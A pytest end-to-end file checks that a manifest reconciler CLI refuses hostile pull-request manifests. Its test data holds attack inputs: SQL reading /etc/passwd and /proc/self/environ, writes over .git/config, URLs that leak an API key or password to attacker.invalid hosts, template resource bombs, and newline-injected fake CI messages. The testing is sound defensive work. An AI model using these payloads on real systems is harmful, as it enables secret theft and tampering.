"""A hostile manifest directory, as a pull request could bring it, run through the real CLI
(`validate`, `plan`, `apply`) in subprocesses against the emulator over HTTP.

Each attack must end the command promptly (a generous timeout, not a timed assertion)
with an error naming the manifest line; nothing outside the workspace (and nothing in
its .git) may change; no API key and no member's identifier may appear in any output.
"""

from __future__ import annotations

import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest

from reconciler.emulator.server import EmulatorServer

KEY = "sk-e2e-7f3a9c1d5b2e4a6f"  # the project's key: printed nowhere
KEY_VAR = "ITERABLE_API_KEY"
VICTIM = "victim.person@example.com"  # a member: named by its row only
COMMANDS = (("validate",), ("plan",), ("apply", "--yes"))


@dataclass(frozen=True)
class Attack:
    name: str
    files: dict[str, str]  # manifest files (relative to manifests/) and data files
    at: tuple[str, str]  # (file, text on the line the error must name)
    says: str  # what every refusing command's error says
    # Commands that never reach the attack and succeed (validate reads no key).
    passes: tuple[str, ...] = ()
    fifos: tuple[str, ...] = ()  # named pipes made in manifests/, which nobody writes to


def destination(extra: str = "") -> str:
    return (
        "apiVersion: reconciler/v1\nkind: Destination\nmetadata: {name: prod}\nspec:\n"
        "  region: us\n  projectType: hybrid\n  baseUrl: BASE_URL\n"
        f"  apiKey: {{env: {KEY_VAR}}}\n{extra}"
    )


def audience(members: str, extra: str = "") -> str:
    return (
        "apiVersion: reconciler/v1\nkind: Audience\nmetadata: {name: aud}\nspec:\n"
        f"  destination: prod\n{extra}  members:\n{members}"
    )


def sql(query: str, database: str = "':memory:'") -> dict[str, str]:
    return {
        "dest.yaml": destination(),
        "aud.yaml": audience(f'    sql: "{query}"\n    database: {database}\n'),
    }


def template(text: str) -> dict[str, str]:
    return {
        "dest.yaml": destination(),
        "aud.yaml": audience("    csv: data/m.csv\n", extra="  traits: crm\n"),
        "crm.yaml": "apiVersion: reconciler/v1\nkind: TraitMapping\nmetadata: {name: crm}\n"
        f'spec:\n  fields:\n    greeting: {{template: "{text}"}}\n',
        "data/m.csv": f"email,first_name\n{VICTIM},ada\n",
    }


def key_file(path: str) -> dict[str, str]:
    return {
        "dest.yaml": destination().replace(
            f"apiKey: {{env: {KEY_VAR}}}", f"apiKey: {{file: {path}}}"
        ),
        "aud.yaml": audience(f"    inline: [{VICTIM}]\n"),
    }


ATTACKS = [
    Attack(
        "csv-of-key-file",
        {**key_file("key.txt"), "key.txt": f"{KEY}\n", "aud.yaml": audience("    csv: key.txt\n")},
        ("aud.yaml", "csv:"),
        "members.csv: key.txt is a destination's API key file",
    ),
    Attack(
        # Git-ignored beside the manifests, but under a directory git tracks (or in a
        # repository without git): a query could make the key a member's userId.
        "read-key-file",
        {
            **key_file("key.txt"),
            "key.txt": f"{KEY}\n",
            "aud.yaml": audience(
                "    sql: \"SELECT trim(content) AS userId FROM read_text('key.txt')\"\n"
                "    database: ':memory:'\n"
            ),
        },
        ("aud.yaml", "sql:"),
        "an API key file (manifests/key.txt, a destination's apiKey) is inside the repository",
    ),
    Attack(
        "copy-over-git-config",
        sql("COPY (SELECT 1) TO '../.git/config' (HEADER false)"),
        ("aud.yaml", "sql:"),
        "must be a single SELECT statement; found COPY",
    ),
    Attack(
        "attach-outside",
        sql("ATTACH '../../outside/planted.duckdb' AS p"),
        ("aud.yaml", "sql:"),
        "found ATTACH",
    ),
    Attack("install", sql("INSTALL httpfs"), ("aud.yaml", "sql:"), "found LOAD"),
    Attack(
        "select-then-copy",
        sql("SELECT 'a@example.com' AS email; COPY (SELECT 1) TO 'x.csv'"),
        ("aud.yaml", "sql:"),
        "found 2 statements",
    ),
    Attack(
        "read-etc-passwd",
        sql("SELECT column0 AS email FROM read_csv('/etc/passwd', header = false)"),
        ("aud.yaml", "sql:"),
        "may read only files inside the repository",
    ),
    Attack(
        "read-environ",
        sql("SELECT content AS email FROM read_text('/proc/self/environ')"),
        ("aud.yaml", "sql:"),
        "may read only files inside the repository",
    ),
    Attack(
        "read-outside",
        sql("SELECT content AS email FROM read_text('../../outside/secret.txt')"),
        ("aud.yaml", "sql:"),
        "may read only files inside the repository",
    ),
    Attack(
        "read-url",
        sql("SELECT * FROM read_csv('https://attacker.invalid/m.csv')"),
        ("aud.yaml", "sql:"),
        "may read only files inside the repository",
    ),
    Attack(
        "variable-in-url-host",
        {
            "dest.yaml": destination(),
            "aud.yaml": audience(
                "    sql: SELECT 1 AS email\n"
                "    url: postgresql://app:${PGPASSWORD}@${ITERABLE_API_KEY}.attacker.invalid/db\n"
            ),
        },
        ("aud.yaml", "url:"),
        "is refused",
    ),
    Attack(
        "variable-in-sqlite-path",
        {
            "dest.yaml": destination(),
            "aud.yaml": audience(
                "    sql: SELECT 1 AS email\n    url: sqlite:///OUTSIDE/${PGPASSWORD}.db\n"
            ),
        },
        ("aud.yaml", "url:"),
        "may stand only for the user name or password",
    ),
    Attack(
        # No variable: libpq would send PGPASSWORD from the environment to any server.
        "url-to-another-server",
        {
            "dest.yaml": destination(),
            "aud.yaml": audience(
                "    sql: SELECT 1 AS email\n    url: postgresql://app@db.attacker.invalid/x\n"
            ),
        },
        ("aud.yaml", "url:"),
        "is not sent to database host db.attacker.invalid",
    ),
    Attack(
        "sqlite-outside",
        {
            "dest.yaml": destination(),
            "aud.yaml": audience(
                "    sql: SELECT 1 AS email\n    url: sqlite:///OUTSIDE/planted.db\n"
            ),
        },
        ("aud.yaml", "url:"),
        "outside the repository",
    ),
    Attack(
        "template-nested-loops",
        template(
            "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
        ),
        ("crm.yaml", "template:"),
        "ran longer than",
    ),
    Attack(
        "template-power",
        template("{{ (first_name|length) ** (9 ** 9) }}"),
        ("crm.yaml", "template:"),
        "integer power too large",
    ),
    Attack(
        "template-repeat",
        template("{{ 'x' * 50000000000 }}"),
        ("crm.yaml", "template:"),
        "repetition",
    ),
    Attack(
        "csv-fifo",
        {"dest.yaml": destination(), "aud.yaml": audience("    csv: m.csv\n")},
        ("aud.yaml", "csv:"),
        "is not a regular file",
        fifos=("m.csv",),
    ),
    Attack(
        # A trait mapping's columns were read from the source before its path was checked.
        "csv-fifo-with-traits",
        {
            **template("{{ first_name }}"),
            "aud.yaml": audience("    csv: m.csv\n", extra="  traits: crm\n"),
        },
        ("aud.yaml", "csv:"),
        "is not a regular file",
        fifos=("m.csv",),
    ),
    Attack(
        "database-fifo",
        sql("SELECT 1 AS email", database="crm.duckdb"),
        ("aud.yaml", "database:"),
        "is not a regular file",
        fifos=("crm.duckdb",),
    ),
    Attack(
        # Messages quote the path: its newline would print a line of the manifest's choosing.
        "path-with-newline",
        {
            "dest.yaml": destination(),
            "aud.yaml": audience('    csv: "m.csv\\n::error::OK: all checks passed"\n'),
        },
        ("aud.yaml", "csv:"),
        "cannot contain control or formatting characters",
    ),
    Attack(
        # Plans, reports and alerts print the list name: the same forged line, and a
        # pull-request comment's table row or code block ended early.
        "list-name-with-newline",
        {
            "dest.yaml": destination(),
            "aud.yaml": audience(
                f"    inline: [{VICTIM}]\n",
                extra='  listName: "vip\\n::error::OK: all checks passed"\n',
            ),
        },
        ("aud.yaml", "listName:"),
        "a list name cannot contain control characters",
    ),
    Attack(
        "key-file-dev-zero",
        key_file("/dev/zero"),
        ("dest.yaml", "apiKey:"),
        "is not a regular file",
        passes=("validate",),
    ),
    Attack(
        "key-file-fifo",
        key_file("key.fifo"),
        ("dest.yaml", "apiKey:"),
        "is not a regular file",
        passes=("validate",),
        fifos=("key.fifo",),
    ),
    Attack(
        "base-url-elsewhere",
        {
            "dest.yaml": destination().replace("BASE_URL", "http://attacker.invalid:8080"),
            "aud.yaml": audience(f"    inline: [{VICTIM}]\n"),
        },
        ("dest.yaml", "baseUrl:"),
        "the API key is not sent to baseUrl",
        passes=("validate",),
    ),
]


def snapshot(root: Path) -> dict[str, bytes | str]:
    """Every file under `root` and its contents, but reconciler's own local state."""
    found: dict[str, bytes | str] = {}
    for directory, subdirectories, files in os.walk(root):
        subdirectories[:] = [d for d in subdirectories if d != ".reconciler"]
        for name in files:
            path = Path(directory, name)
            found[str(path)] = "fifo" if path.is_fifo() else path.read_bytes()
    return found


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
def test_a_hostile_manifest_reaches_nothing(
    attack: Attack, tmp_path: Path, emulator_server: EmulatorServer
) -> None:
    emulator_server.emulator.add_project("hostile", "hybrid", KEY)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("outside-secret@example.com\n")
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / ".git" / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    manifests = repo / "manifests"
    for relative, text in attack.files.items():
        path = manifests / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(
            text.replace("BASE_URL", emulator_server.base_url).replace("OUTSIDE", str(outside))
        )
    for fifo in attack.fifos:
        os.mkfifo(manifests / fifo)  # nobody ever writes to it
    file, marker = attack.at
    line = next(
        n
        for n, text in enumerate((manifests / file).read_text().splitlines(), start=1)
        if marker in text
    )
    before = snapshot(tmp_path)
    env = {k: v for k, v in os.environ.items() if not k.startswith("RECONCILER_")}
    env |= {KEY_VAR: KEY, "PGPASSWORD": "pg-secret-31337", "RECONCILER_TIMEOUT": "5"}
    env |= {"RECONCILER_MAX_RETRIES": "0"}
    env.setdefault("PYTHONPATH", str(Path(__file__).parents[2]))

    for command in COMMANDS:
        result = subprocess.run(
            [sys.executable, "-m", "reconciler.cli", command[0], "manifests", *command[1:]],
            cwd=repo,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=120,  # generous: the point is that it ends, not how fast
        )
        output = result.stdout + result.stderr
        for secret in (KEY, "pg-secret-31337", "victim.person", "outside-secret", "root:x:0"):
            assert secret not in output, (command, output)
        assert "internal error" not in output, (command, output)
        if command[0] in attack.passes:
            assert result.returncode == 0, (command, output)
            continue
        assert result.returncode != 0, (command, output)
        assert f"manifests/{file}:{line}:" in output, (command, output)
        assert attack.says in output, (command, output)

    assert snapshot(tmp_path) == before
    assert not (outside / "planted.db").exists() and not (outside / "planted.duckdb").exists()
    # Nothing reached Iterable: no list was made, no key was sent anywhere but the emulator.
    assert emulator_server.emulator.project("hostile").lists == {}
